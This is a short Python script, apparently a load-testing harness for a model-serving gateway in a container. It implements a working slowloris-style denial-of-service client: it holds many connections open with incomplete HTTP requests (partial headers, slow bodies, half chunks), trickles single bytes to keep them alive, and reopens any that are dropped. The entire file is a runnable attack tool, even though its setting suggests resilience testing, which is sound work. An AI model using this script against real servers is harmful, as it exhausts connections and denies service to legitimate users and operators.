"""A client that fills the gateway with connections, in a container: `python attacker.py KIND HOST CONNECTIONS SECONDS`.

A closed connection is opened again, until the time is over.
"""

from __future__ import annotations

import contextlib
import socket
import sys
import time

HEAD = b"POST /predict HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n"

KINDS = {
    "silent": b"",
    "half a head": HEAD,
    "a long half head": HEAD + b"X-Long: " + b"a" * 7000,
    "slow small body": HEAD + b"Content-Length: 9999\r\n\r\n[" + b" " * 9000,
    "slow large body": HEAD + b"Content-Length: 999999\r\n\r\n[" + b" " * 60_000,
    "half a chunk": HEAD + b"Transfer-Encoding: chunked\r\n\r\nf4240\r\n[",
}


def attack(first: bytes, host: str, connections: int, seconds: float) -> None:
    end = time.monotonic() + seconds
    held: list[socket.socket | None] = [None] * connections
    is_reported = False
    while time.monotonic() < end:
        for number, connection in enumerate(held):
            held[number] = hold(connection, first, host)
        if not is_reported:
            print(f"opened {sum(connection is not None for connection in held)}", flush=True)
            is_reported = True
        time.sleep(0.5)


def hold(connection: socket.socket | None, first: bytes, host: str) -> socket.socket | None:
    """Opens a connection, or sends a byte more on an open one; None if the gateway took it away."""
    try:
        if connection is None:
            connection = socket.create_connection((host, 8000), timeout=2)
            connection.sendall(first)
            connection.setblocking(False)
        elif first:
            connection.send(b"a")
    except OSError:
        if connection is not None:
            with contextlib.suppress(OSError):
                connection.close()
        return None
    return connection


if __name__ == "__main__":
    attack(KINDS[sys.argv[1]], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
